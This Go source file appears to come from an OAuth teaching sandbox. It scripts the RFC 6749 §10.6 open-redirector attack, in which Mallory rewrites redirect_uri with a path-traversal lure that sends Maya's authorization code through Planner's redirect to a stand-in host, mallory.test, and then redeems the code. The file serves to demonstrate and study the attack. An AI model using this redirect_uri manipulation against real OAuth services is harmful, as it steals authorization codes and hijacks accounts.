package world

import (
	"context"
	"net/url"

	"oauthplayground/playground/trace"
)

// lure is where Mallory wants Maya's code sent. It begins with Planner's callback and stands on Planner's host. The two dots lead
// from there to a link of Planner's that sends browsers on.
const lure = plannerCallback + "/../go?to=https://mallory.test/coupons"

// openRedirector is the attack of RFC 6749 §10.6. Mallory starts to connect Planner in her own browser and stops at the question
// that she is sent away with. She changes where the answer is to go, and gives the question to Maya. The code that comes of it is
// Maya's, but state, nonce and challenge are those of Mallory's session, so Planner takes it from her.
func (s *Sandbox) openRedirector(ctx context.Context) error {
	return stopped(s.redirectAnswer(ctx))
}

func (s *Sandbox) redirectAnswer(ctx context.Context) error {
	own, err := s.malloryStarts(ctx)
	if err != nil {
		return err
	}
	_, _, before, err := s.log.Info(ctx)
	if err != nil {
		return err
	}
	q := own.Query()
	q.Set("redirect_uri", lure)
	question := *own
	question.RawQuery = q.Encode()
	if _, err := s.victimOpens(ctx, question.String()); err != nil {
		return err
	}
	code, err := s.readOwnLog(ctx, before)
	if err != nil || code == "" {
		return err
	}
	return s.malloryAnswers(ctx, own, code)
}

// readOwnLog reads what Mallory's server was asked for after a position of the record, and returns the first code in it.
func (s *Sandbox) readOwnLog(ctx context.Context, after uint64) (string, error) {
	events, err := s.events(ctx, after)
	if err != nil {
		return "", err
	}
	for _, e := range events {
		if e.Request == nil || e.To != Attacker {
			continue
		}
		u, err := url.Parse(e.Request.URL)
		if err != nil || u.Query().Get("code") == "" {
			continue
		}
		finds := s.recorder.FindIn(ctx, "query", "code", e.Request.URL)
		return u.Query().Get("code"), s.note(ctx, trace.Change{What: "read", Actor: Attacker, From: "log of " + Attacker, To: e.Request.URL}, finds...)
	}
	return "", nil
}
